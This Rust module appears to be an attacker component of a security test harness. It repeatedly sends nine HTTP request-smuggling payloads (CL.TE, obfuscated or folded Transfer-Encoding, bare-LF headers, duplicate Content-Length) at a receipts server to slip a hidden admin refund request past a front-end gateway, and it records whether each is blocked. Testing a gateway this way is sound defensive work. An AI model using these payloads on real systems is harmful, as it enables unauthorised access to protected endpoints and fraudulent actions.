//! Request smuggling at the old receipts server: bytes in which the front sees one request and the server behind it two.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::timeout;

use super::Attacker;

/// How long an answer is waited for; desynchronised servers often give none.
const PATIENCE: Duration = Duration::from_millis(800);

pub(crate) async fn run(mut attacker: Attacker) {
    for round in 0u64.. {
        for (name, shape) in SHAPES {
            if attacker.pause(120).await {
                return;
            }
            let hidden = format!("POST /receipts/admin/refund?{name}-{round} HTTP/1.1\r\nHost: x\r\n");
            let blocked = attempt(&attacker, &shape(&hidden)).await;
            attacker.sent(blocked);
        }
    }
}

/// Sends the bytes; true if they were refused: any answer of 4xx first, or none and a close.
async fn attempt(attacker: &Attacker, bytes: &[u8]) -> bool {
    let Ok(mut stream) = connect(attacker).await else { return true };
    if stream.write_all(bytes).await.is_err() {
        return true;
    }
    let mut answer = vec![0; 4096];
    match timeout(PATIENCE, stream.read(&mut answer)).await {
        Ok(Ok(0) | Err(_)) => true,
        Ok(Ok(_)) => answer.starts_with(b"HTTP/1.1 4"),
        Err(_) => false,
    }
}

async fn connect(attacker: &Attacker) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if attacker.floor.gate.plain.ip().is_loopback() {
        let _ = socket.bind(([127, 0, 66, 6], 0).into());
    }
    socket.connect(attacker.floor.gate.plain).await
}

type Shape = fn(&str) -> Vec<u8>;

/// The hidden request stands where one parser sees a body and the other the next request.
const SHAPES: [(&str, Shape); 9] = [
    // CL.TE: the front counts, the server behind reads chunks.
    ("cl-te", |hidden| {
        post(
            "Transfer-Encoding: chunked\r\nContent-Length: {}\r\n",
            &format!("0\r\n\r\n{hidden}Content-Length: 0\r\n\r\n"),
        )
    }),
    // TE with a value only one of them believes.
    ("te-xchunked", |hidden| {
        post("Transfer-Encoding: xchunked\r\nContent-Length: {}\r\n", &format!("0\r\n\r\n{hidden}\r\n"))
    }),
    ("te-identity", |hidden| {
        post(
            "Transfer-Encoding: identity, chunked\r\nContent-Length: {}\r\n",
            &format!("0\r\n\r\n{hidden}\r\n"),
        )
    }),
    // A name only one of them recognises.
    ("te-space", |hidden| {
        post("Transfer-Encoding : chunked\r\nContent-Length: {}\r\n", &format!("0\r\n\r\n{hidden}\r\n"))
    }),
    ("te-folded", |hidden| {
        post("Transfer-Encoding:\r\n chunked\r\nContent-Length: {}\r\n", &format!("0\r\n\r\n{hidden}\r\n"))
    }),
    // A header only a parser sees that ends lines in LF.
    ("bare-lf", |hidden| {
        post(
            "X-A: b\nTransfer-Encoding: chunked\r\nContent-Length: {}\r\n",
            &format!("0\r\n\r\n{hidden}\r\n"),
        )
    }),
    // Two lengths: the front takes the first, the server behind the last.
    ("cl-cl", |hidden| post("Content-Length: {}\r\nContent-Length: 0\r\n", &format!("{hidden}\r\n"))),
    // No body for the front, chunks for the server behind.
    ("te-0", |hidden| {
        format!("POST /receipts/ HTTP/1.1\r\nHost: api.pizza.example\r\nContent-Type: text/plain\r\nContent-Length: 5\r\nTransfer-Encoding: Chunked\r\n\r\n0\r\n\r\n{hidden}\r\n").into_bytes()
    }),
    // A head that ends in LF LF for one of them.
    ("lf-lf", |hidden| {
        format!("GET /receipts/last HTTP/1.1\r\nHost: api.pizza.example\r\nX-A: b\n\n{hidden}\r\n\r\n")
            .into_bytes()
    }),
];

/// A receipt with these framing headers (`{}` is the body's length) and this body.
fn post(framing: &str, body: &str) -> Vec<u8> {
    let framing = framing.replacen("{}", &body.len().to_string(), 1);
    format!("POST /receipts/ HTTP/1.1\r\nHost: api.pizza.example\r\nContent-Type: text/plain\r\n{framing}\r\n{body}").into_bytes()
}
